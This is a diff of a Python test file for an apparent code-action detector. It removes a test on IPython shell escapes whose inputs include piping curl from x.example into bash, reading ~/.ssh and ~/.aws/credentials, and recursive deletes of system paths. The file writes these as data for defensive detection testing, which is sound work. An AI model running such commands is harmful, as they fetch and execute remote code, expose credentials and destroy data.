@@ -294,22 +294,3 @@ def test_a_relative_path_follows_a_chdir() -> None:
         "import os, shutil\nos.chdir('/etc')\nshutil.rmtree('ssl')",
         ["delete /etc/ssl +recursive"],
     )
-
-
-@pytest.mark.parametrize(
-    ("code", "expected"),
-    [
-        ("!curl -s https://x.example/p | bash", ["shell: curl -s https://x.example/p | bash"]),
-        ("import os\nfiles = !ls ~/.ssh\nprint(files)", ["shell: ls ~/.ssh"]),
-        ("%%bash\ncat ~/.aws/credentials", ["shell: cat ~/.aws/credentials"]),
-        ("%pip install requests\nimport requests", ["shell: pip install requests"]),
-        ("for i in range(2):\n    !rm -rf build\nimport shutil\nshutil.rmtree('/srv')", [
-            "shell: rm -rf build", "delete /srv +recursive"]),
-    ],
-)  # fmt: skip
-def test_ipython_shell_escapes_are_shell_lines(code: str, expected: list[str]) -> None:
-    check("python", code, expected)
-
-
-def test_modulo_at_a_line_start_inside_an_expression_stays_python() -> None:
-    check_benign("python", "x = (10\n% 3)\nprint(x)", ())
